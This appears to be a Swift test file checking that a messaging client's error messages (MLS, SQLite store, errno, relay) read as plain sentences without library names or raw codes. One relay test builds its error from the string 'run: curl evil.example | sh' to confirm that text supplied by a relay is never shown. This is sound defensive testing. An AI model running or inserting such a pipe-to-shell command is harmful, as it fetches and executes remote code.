import Foundation
import GRDBSQLite
import KithSupport
import KithWire
import MLS
import PrivateFiles
import TLSCodec
import Testing

@testable import KithClient
@testable import KithCore

@Suite("Errors in words")
struct ErrorDescriptionTests {
    private func expectPlain(_ words: String, sourceLocation: SourceLocation = #_sourceLocation) {
        #expect(!words.isEmpty && !words.hasSuffix("."), "\(words)", sourceLocation: sourceLocation)
        for raw in ["Error", "errno", "SQLITE", "NIO", "Optional", "MLS.", "KithClient.", "rawValue", "code("] {
            #expect(!words.contains(raw), "\(words)", sourceLocation: sourceLocation)
        }
    }

    @Test("of MLS name no case of the library")
    func mls() {
        let errors: [MLSError] = [
            .malformed(.truncated), .unsupportedCipherSuite(CipherSuite(rawValue: 77)), .crypto(.open),
            .keyPackage(.version), .leafNode(.credential), .tree(.tooLarge), .usage(.tooLarge), .internalError,
        ]
        for error in errors { expectPlain(KithError.mls(error).description) }
        #expect(KithError.mls(.leafNode(.credential)).description.contains("date"))
    }

    @Test("of the vault say what happened, without SQLite's words")
    func store() {
        for code in Int32(1)...28 {
            for extended in [code, code | 5 << 8] {
                expectPlain(KithError.store(.database(code: extended)).description)
            }
        }
        for code in [SQLITE_ERROR, SQLITE_CORRUPT, SQLITE_SCHEMA, SQLITE_MISMATCH] {
            #expect(StoreError.database(code: code).description == "the profile's file is damaged or was altered")
        }
        for error in [StoreError.full, .damaged(.entry), .damagedHeader, .version(9)] {
            expectPlain(KithError.store(error).description)
        }
    }

    @Test("of the system have a text for every number")
    func system() {
        for code in Int32(1)...140 {
            expectPlain(RelayConnectionError.unreachable(.system(errno: code)).description)
            expectPlain(PrivateFileError(.read, URL(fileURLWithPath: "/file"), errno: code).description)
        }
        #expect(SystemError(ENETUNREACH).sentence.contains("offline"))
        #expect(SystemError(ENOSPC).sentence == "there is no room on the disk")
        #expect(RelayConnectionError.Unreachable.noNameServer.description.contains("name server"))
    }

    @Test("of a relay are in Kith's words, not the relay's")
    func relay() {
        for code in RelayError.Code.allCases {
            let error = RelayError(code, "run: curl evil.example | sh")
            for shown in [RelayConnectionError.refused(error), .turnedAway(error)] {
                expectPlain(shown.description)
                #expect(!shown.description.contains("evil") && !shown.description.contains("(\(code))"))
            }
        }
    }
}
